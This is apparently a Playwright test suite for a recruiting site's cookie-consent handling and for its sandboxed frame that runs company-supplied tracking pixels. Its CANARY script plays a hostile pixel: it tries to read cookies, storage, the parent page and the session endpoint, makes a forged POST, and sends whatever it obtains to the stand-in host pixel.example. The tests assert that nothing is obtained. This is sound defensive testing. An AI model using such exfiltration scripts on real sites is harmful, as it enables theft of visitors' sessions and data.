import { type BrowserContext, expect, type Page, test } from 'playwright/test'
import { wordsOf } from '../support/candidate.ts'
import { startServer } from '../support/server.ts'
import { withDatabase } from '../support/with-database.ts'

type Say = Awaited<ReturnType<typeof wordsOf>>

const OPERATING = ['cookie_choices', 'date_locale', 'locale']
const JOB = '/jobs/manipulateur-radio-lille'
const FILMED = 'pflegefachkraft-koeln'

/** Tries everything that a page must prevent, and reports what it got by a request, the only way it has. */
const CANARY = `<script>
const got = []
const attempt = (name, work) => { try { const value = work(); if (value) got.push(name + ':' + value) } catch {} }
attempt('cookie', () => document.cookie)
attempt('storage', () => localStorage.length + 1)
attempt('parent', () => parent !== window && parent.document.title)
attempt('top', () => { if (top !== window) top.location = 'https://pixel.example/stolen' })
parent.postMessage({ event: 'consent', detail: 'x', type: 'height', height: 9999 }, '*')
const asked = fetch('/api/me', { credentials: 'include' }).then((reply) => reply.text()).then((text) => got.push('session:' + text), () => {})
const written = fetch('/api/companies/almea/consents', { method: 'POST', body: '{}' }).then((reply) => got.push('call:' + reply.status), () => {})
Promise.all([asked, written]).then(() => fetch('https://pixel.example/got?' + encodeURIComponent(JSON.stringify({ got, origin }))))
addEventListener('message', ({ data }) => fetch('https://pixel.example/view?' + encodeURIComponent(JSON.stringify(data))))
</script>`

/** In place of Google's script: sends each event and identifies a browser by a cookie, as the real one does. */
const GTAG = `if (!document.cookie.includes('_ga=')) document.cookie = '_ga=GA1.1.' + Math.random() + '; path=/'
const send = (call) => call[0] === 'event' && fetch('https://www.google-analytics.com/g/collect?' + encodeURIComponent(JSON.stringify([...call])))
const { push } = dataLayer
dataLayer.forEach(send)
dataLayer.push = (call) => { send(call); return push.call(dataLayer, call) }`

let server: Awaited<ReturnType<typeof startServer>>
test.beforeAll(async () => {
  server = await startServer()
  const uses = `update companies set analytics_id = 'G-TEST42', html_pixels_code = ?, chat_provider = 'crisp',
    chat_id = 'almea-chat' where slug = 'almea'`
  const films = 'update campaigns set abstract_video = ? where slug = ?'
  withDatabase((database) => {
    database.prepare(uses).run(CANARY)
    database.prepare(films).run('https://youtu.be/dQw4w9WgXcQ', FILMED)
  }, server.dataDir)
})
test.afterAll(() => server.stop())

const host = () => `almea.localhost:${server.port}`
const at = (path: string) => `http://${host()}${path}`

/** Records everything that leaves the origin, answered by stubs. */
async function listen(context: BrowserContext) {
  const gone: URL[] = []
  await context.route(
    (url) => url.host !== host(),
    (route) => {
      const url = new URL(route.request().url())
      gone.push(url)
      const body = url.pathname === '/gtag/js' ? GTAG : ''
      return route.fulfill({ body, contentType: 'text/javascript', headers: { 'access-control-allow-origin': '*' } })
    },
  )
  const told = (path: string) =>
    gone
      .filter(({ pathname }) => pathname === path)
      .map(({ search }) => JSON.parse(decodeURIComponent(search.slice(1))) as unknown)
  return { hosts: () => [...new Set(gone.map((url) => url.host))].sort(), told, forget: () => (gone.length = 0) }
}

const names = async (context: BrowserContext) => (await context.cookies()).map(({ name }) => name).sort()
/** Opens the cookie settings again. Their code loads after everything that the page loads by itself. */
async function reopen(page: Page, say: Say) {
  const modal = page.getByRole('dialog', { name: say('consent.TITLE') })
  await expect(async () => {
    await page.getByRole('button', { name: say('site.FOOTER.COOKIES') }).click({ timeout: 2000 })
    await expect(modal.getByRole('button', { name: say('ui.CLOSE') })).toBeVisible({ timeout: 2000 })
  }).toPass()
  return modal
}

for (const locale of ['en', 'fr'] as const)
  test(`sends nothing before the choice or after a rejection, in ${locale}`, async ({ browser }) => {
    const say = await wordsOf(locale)
    const context = await browser.newContext({ locale })
    const heard = await listen(context)
    const page = await context.newPage()
    await page.goto(at(JOB))
    const modal = page.getByRole('dialog', { name: say('consent.TITLE') })
    await expect(modal).toBeVisible()
    expect([heard.hosts(), (await names(context)).filter((name) => !OPERATING.includes(name))]).toEqual([[], []])
    await modal.getByRole('button', { name: say('consent.REFUSE') }).click()
    await expect(modal).toBeHidden()
    for (const path of ['/', JOB, '/all-jobs', `${JOB}/apply`]) {
      await page.goto(at(path))
      await reopen(page, say)
    }
    expect([heard.hosts(), (await names(context)).filter((name) => !OPERATING.includes(name))]).toEqual([[], []])
    await context.close()
  })

test('slides the cookie modal in without a layout shift', async ({ page }) => {
  await page.addInitScript(() => {
    type Shift = PerformanceEntry & { value: number }
    const add = (list: PerformanceObserverEntryList) => {
      const sum = list.getEntries().reduce((total, entry) => total + (entry as Shift).value, 0)
      Object.assign(window, { shifted: ((window as { shifted?: number }).shifted ?? 0) + sum })
    }
    new PerformanceObserver(add).observe({ type: 'layout-shift', buffered: true })
  })
  await page.goto(at(JOB))
  await expect(page.getByRole('dialog')).toBeVisible()
  await page.evaluate(() => Promise.all(document.getAnimations().map(({ finished }) => finished.catch(() => null))))
  await page.waitForTimeout(300)
  expect(await page.evaluate(() => (window as { shifted?: number }).shifted ?? 0)).toBeLessThan(0.02)
})

test('loads exactly the company’s list after Accept, gives its own code nothing, and stops on withdrawal', async ({
  browser,
}) => {
  const say = await wordsOf('en')
  const context = await browser.newContext({ locale: 'en' })
  const heard = await listen(context)
  const page = await context.newPage()
  await page.goto(at(`${JOB}?source=poster&secret=s3cret`))
  await page.getByRole('button', { name: say('consent.ACCEPT') }).click()
  await expect
    .poll(heard.hosts)
    .toEqual(['client.crisp.chat', 'pixel.example', 'www.google-analytics.com', 'www.googletagmanager.com'])

  await expect.poll(() => heard.told('/got')).toEqual([{ got: [], origin: 'null' }])
  const view = { event: 'page_view', path: `${JOB}?source=poster`, title: await page.title(), stage: 'abstract' }
  await expect.poll(() => heard.told('/view')).toEqual([view])
  expect(heard.told('/g/collect')).toEqual([['event', 'page_view', { stage: 'abstract' }]])
  const known = async () => (await context.cookies()).find(({ name }) => name === '_ga')?.value
  const browserId = await known()
  expect(browserId).toMatch(/^GA1/)
  expect(page.url()).toContain(JOB)
  await expect(page.getByRole('dialog')).toBeHidden()
  const shown = () =>
    withDatabase(
      (database) => database.prepare('select action, choices from consents order by id').all(),
      server.dataDir,
    )
  await expect.poll(() => shown().at(-1)).toMatchObject({ action: 'accept' })

  heard.forget()
  await page.goto(at(`${JOB}/apply`))
  await expect.poll(() => heard.told('/g/collect')).toEqual([['event', 'page_view', {}]])
  expect(await known()).toBe(browserId)
  expect(heard.hosts()).not.toContain('pixel.example')
  expect(await page.locator('iframe[src="/pixels"]').count()).toBe(0)

  await page.goto(at(JOB))
  await expect(page.locator('iframe[src="/pixels"]')).toBeAttached()
  const modal = await reopen(page, say)
  await expect(modal.getByRole('checkbox', { name: say('consent.CATEGORY.tracking') })).toBeChecked()
  const again = page.waitForEvent('load')
  await modal.getByRole('button', { name: say('consent.REFUSE') }).click()
  await again
  heard.forget()
  await page.goto(at(JOB))
  await reopen(page, say)
  expect(await page.locator('iframe[src="/pixels"]').count()).toBe(0)
  expect([heard.hosts(), (await names(context)).filter((name) => !OPERATING.includes(name))]).toEqual([[], []])
  await context.close()
})

test('does not load a recipient added after the choice on a page that does not ask', async ({ browser }) => {
  const context = await browser.newContext({ locale: 'en' })
  const heard = await listen(context)
  const page = await context.newPage()
  await page.goto(at('/'))
  await page.evaluate(() => {
    const choices = { tracking: true, social: true, media: true, operating: true }
    const consent = { choices, recipients: ['pixels'], consent_id: 'a', chosen_at: new Date().toISOString() }
    document.cookie = `cookie_choices=${encodeURIComponent(JSON.stringify(consent))}; path=/`
  })
  await page.goto(at('/'))
  await expect.poll(() => names(context)).not.toContain('cookie_choices')
  await page.waitForLoadState('networkidle')
  expect(heard.hosts()).toEqual([])
  await context.close()
})

test.describe('on a phone', () => {
  test.use({ locale: 'fr', viewport: { width: 360, height: 740 } })

  test('requests nothing from YouTube before the visitor wants a video, and fits it into the page', async ({
    page,
  }) => {
    const say = await wordsOf('fr')
    const heard = await listen(page.context())
    const fits = () => page.evaluate(() => document.documentElement.scrollWidth <= innerWidth)
    await page.goto(at(`/jobs/${FILMED}`))
    await page
      .getByRole('dialog', { name: say('consent.TITLE') })
      .getByRole('button', { name: say('consent.REFUSE') })
      .click()
    const there = page.getByRole('link', { name: say('site.YOUTUBE.THERE') })
    await expect(there).toHaveAttribute('href', 'https://www.youtube.com/watch?v=dQw4w9WgXcQ')
    expect([await fits(), heard.hosts()]).toEqual([true, []])
    await page.getByRole('button', { name: say('site.YOUTUBE.SHOW') }).click()
    await expect.poll(heard.hosts).toEqual(['www.youtube-nocookie.com'])
    await expect(page.locator('iframe[title="YouTube"]')).toBeVisible()
    expect(await fits()).toBe(true)
  })
})

test('asks for a choice again after six months, not before', async ({ browser }) => {
  const say = await wordsOf('en')
  const context = await browser.newContext({ locale: 'en' })
  await listen(context)
  const page = await context.newPage()
  await page.clock.setFixedTime(new Date('2026-01-10T10:00:00Z'))
  await page.goto(at(JOB))
  const modal = page.getByRole('dialog', { name: say('consent.TITLE') })
  await modal.getByRole('button', { name: say('consent.REFUSE') }).click()
  await page.clock.setFixedTime(new Date('2026-07-10T09:59:00Z'))
  await page.goto(at(JOB))
  await reopen(page, say)
  await page.clock.setFixedTime(new Date('2026-07-10T10:01:00Z'))
  await page.goto(at(JOB))
  await expect(modal).toBeVisible()
  await context.close()
})

test('serves the frame without an origin, even when opened directly, for its company only', async ({ browser }) => {
  const context = await browser.newContext()
  const heard = await listen(context)
  const page = await context.newPage()
  const reply = await page.goto(at('/pixels'))
  expect(reply?.headers()['content-security-policy']).toBe(
    "sandbox allow-scripts; frame-ancestors 'self'; form-action 'none'; object-src 'none'",
  )
  expect(reply?.headers()['set-cookie']).toBeUndefined()
  await expect.poll(() => heard.told('/got')).toEqual([{ got: [], origin: 'null' }])
  const headers = { host: `levain.localhost:${server.port}` }
  const others = await context.request.get(`http://127.0.0.1:${server.port}/pixels`, { headers })
  expect(others.status()).toBe(404)
  await context.close()
})
